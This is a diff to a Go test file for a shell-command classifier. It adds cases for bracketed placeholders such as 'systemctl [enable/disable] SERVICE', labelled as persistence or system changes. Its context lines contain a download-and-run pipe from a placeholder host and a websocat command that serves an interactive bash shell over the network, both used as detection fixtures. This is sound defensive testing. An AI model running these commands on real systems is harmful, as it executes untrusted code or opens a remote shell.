@@ -528,3 +528,28 @@ func TestHost8Explained(t *testing.T) {
 	explainRow(t, "lynx -source https://x.example/i.sh | sh", DownloadExecute, "pipelines", []string{"lynx", "|", "sh"})
 	explainRow(t, "websocat ws-l:0.0.0.0:8080 sh-c:'bash -i'", NetworkExfiltration, "websocatShell", []string{"websocat", "sh-c:bash -i"})
 }
+
+// TestBracketedPlaceholders: cheat sheets write a choice of verbs as one
+// bracketed word, "[enable/disable]"; README's heldout5 call reads such
+// unmarked placeholders as standing for a value (heldout5 n0822
+// "systemctl [enable/disable] SERVICE", persistence-startup-files), so
+// the line is judged as each alternative would be. The spelling is
+// [a/b] of plain words ("[a|b]" is a pipe as bash reads it). Everyday beside them: a glob's
+// character class ("ls [abc]*"), a prompt's "[y/n]" inside quotes, and
+// unbracketed "start/restart/stop" (heldout4's label: no such verb).
+func TestBracketedPlaceholders(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`systemctl [enable/disable] SERVICE`, PersistenceStartupFiles},
+		{`systemctl [start/stop] nginx`, DiskSystem},
+		{`ufw [allow/deny] 22`, DiskSystem},
+		{`launchctl [load/unload] ~/Library/LaunchAgents/x.plist`, PersistenceStartupFiles},
+		{`ls [abc]*`, ""},
+		{`read -p "Continue [y/n]? " a`, ""},
+		{`service auditd start/restart/stop`, ""},
+		{`systemctl [status/show] nginx`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
